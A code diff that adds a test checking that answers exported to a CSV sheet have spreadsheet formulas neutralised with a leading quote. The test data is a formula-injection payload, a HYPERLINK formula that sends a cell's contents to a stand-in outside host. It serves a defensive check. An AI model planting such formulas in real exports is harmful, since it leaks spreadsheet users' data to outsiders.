@@ -130,6 +130,17 @@ def test_the_last_verdict_counts_and_a_missing_one_is_none(output, verdict):
     assert read_verdict(output) == verdict
 
 
+def test_an_answer_that_a_spreadsheet_would_run_is_text_in_the_sheet(command, tmp_path):
+    formula = '=HYPERLINK("http://away.example/?"&A1)'
+    rows = [row(n, formula if n else "key 0") for n in range(4)]
+    Store(tmp_path / "r").write(completed(trial(strategy=GOOD[0])), rows)
+    code, out, err = command("label", "s", "--results", tmp_path / "r", "--out", tmp_path / "sheet.csv")
+    assert code == 0, out + err
+    with (tmp_path / "sheet.csv").open(newline="") as file:
+        answers = {line["answer"] for line in csv.DictReader(file)}
+    assert answers == {f"'{formula}", "key 0"}
+
+
 def test_answers_are_judged_labelled_and_reported_by_command(command, tmp_path):
     server = ChatServer(strict)
     store = Store(tmp_path / "r")
